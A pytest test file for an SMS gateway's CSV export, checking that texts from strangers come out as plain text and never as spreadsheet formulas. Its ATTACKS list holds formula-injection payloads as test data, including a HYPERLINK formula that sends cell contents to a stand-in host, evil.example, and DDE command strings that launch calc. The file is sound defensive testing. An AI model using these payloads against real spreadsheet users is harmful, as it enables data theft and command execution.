"""Lists as CSV: what a stranger wrote is a text to whatever spreadsheet opens it."""

from __future__ import annotations

import csv
import gzip
import io
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import pytest
from support.command_line import documents, passed
from support.peers import program
from support.waiting import eventually_sync

from gateway.cli.lists import guarded

SENDER = "+33639980350"
_PAYLOADS = ("1+1", 'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|' /C calc'!A0", "SUM(A1:A9)*cmd|'/C calc'!A0")
ATTACKS = [
    *(f"{lead}{payload}" for lead in "=+-@" for payload in _PAYLOADS),
    *(f"{lead}=1+1" for lead in ("\t", "\r", "\n", " ", "  \t", "\r\n")),
    *(f"{lead}=1+1" for lead in ("\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028")),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\u22121+1", "\ufe661", "\ufe621", "\ufe6bSUM(1)"),
    *('"=1+1"', '"\n=1+1', '";=1+1;"', "Hello;=1+1", "a|=1+1", "one\n=1+1", "one\r=1+1", 'x",=1+1,"', "'=1+1"),
    *("\x1b[31m=1+1", "\x1b[1;31m=1+1", "\x07=1+1", "\u202e=1+1", "=\u0000"),
    *("-2+3+cmd|' /C calc'!D2", "+33639980101", "-", "="),
]  # fmt: skip
HARMLESS = ["Bonjour", "ok :-)", "a=b", "1-1", "", "x, \"y\"", "two\nlines", "é€🚨"]  # fmt: skip


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a file, read as RFC 4180 says."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture(scope="module")
def written(daemon) -> list[str]:
    """Every attack, come in as a text; NUL none can hold."""
    texts = [text for text in dict.fromkeys(ATTACKS) if "\0" not in text]
    for text in texts:
        daemon.receive(SENDER, text)
    return texts


@pytest.fixture
def exported(tocsin, written: list[str]) -> str:
    """The inbox with all of them."""

    def all_there() -> list[dict[str, str]]:
        found = documents(tocsin("inbox", "--from", SENDER, "--limit", "500", "--json"))
        return found if len(found) == len(written) else []

    kept = eventually_sync(all_there)
    assert sorted(item["text"] for item in kept) == sorted(written)
    return tocsin("inbox", "--from", SENDER, "--limit", "500", "--csv").stdout_bytes.decode()


def test_nothing_that_people_wrote_begins_as_a_formula(exported: str, written: list[str], tell: Callable[[str], None]):
    found = cells(exported)
    tell(f"H12: {len(written)} texts that a spreadsheet would run, exported as CSV: each cell is a text")
    assert len(found) == len(written) >= 40
    for row in found:
        assert row["from"] == f"'{SENDER}"
        for value in row.values():
            # As it stands, and cut as a spreadsheet of another country cuts it.
            for piece in [value, *value.replace("|", ";").replace("\n", ";").split(";")]:
                assert not piece.strip(' "\u00a0\u3000\u2028\ufeff\u200b').startswith(
                    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\t", "\r")
                ), ascii(value)


@pytest.mark.peer("ssconvert")
def test_gnumeric_finds_texts_alone(exported: str, tmp_path: Path):
    def opened(text: str) -> list[ET.Element]:
        (tmp_path / "in.csv").write_bytes(text.encode())
        command = [str(program("ssconvert")), "in.csv", "out.gnumeric"]
        subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, timeout=60)
        tree = ET.fromstring(gzip.decompress((tmp_path / "out.gnumeric").read_bytes()))
        return [each for each in tree.iter() if each.tag.endswith("}Cell")]

    def formulas(found: list[ET.Element]) -> list[str]:
        # Gnumeric's own format: what is a value has a type, what is an expression has none.
        return [each.text or "" for each in found if "ValueType" not in each.attrib]

    assert formulas(opened('"a","=1+1"\r\n"b","@SUM(A1)"\r\n')) != []
    found = opened(exported)
    assert len(found) > len(cells(exported))
    assert formulas(found) == []


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str):
    assert guarded(text) == text


def test_messages_opt_outs_and_consents_as_csv(tocsin):
    number, reference = "+33639980351", "=1+1"
    passed(tocsin("send", number, "=1 €", "--reference", reference))
    passed(tocsin("optouts", "add", number))
    passed(tocsin("consents", "add", number, "club", "--wording", "@SUM(1)", "--channel", "paper"))
    (message,) = cells(tocsin("messages", "--to", number, "--csv").stdout_bytes.decode())
    assert (message["to"], message["reference"], message["text"]) == (f"'{number}", "'=1+1", "'=1 €")
    assert message["hold.rule"] == message["error.code"] == ""
    (optout,) = cells(tocsin("optouts", "--number", number, "--csv").stdout_bytes.decode())
    assert (optout["number"], optout["category"]) == (f"'{number}", "")
    (consent,) = cells(tocsin("consents", "--number", number, "--csv").stdout_bytes.decode())
    assert (consent["number"], consent["wording"], consent["channel"]) == (f"'{number}", "'@SUM(1)", "paper")
    (plain,) = documents(tocsin("messages", "--to", number, "--json"))
    assert (plain["to"], plain["reference"]) == (number, reference)


def test_no_rows_are_a_line_of_heads_and_two_forms_at_once_are_refused(tocsin):
    nothing = tocsin("inbox", "--from", "+33639980359", "--csv")
    assert nothing.stdout_bytes.decode() == (
        '\ufeff"received_at","id","from","modem","keyword","parts","in_reply_to","reference","text"\r\n'
    )
    assert tocsin("inbox", "--csv", "--json").exit_code == 2
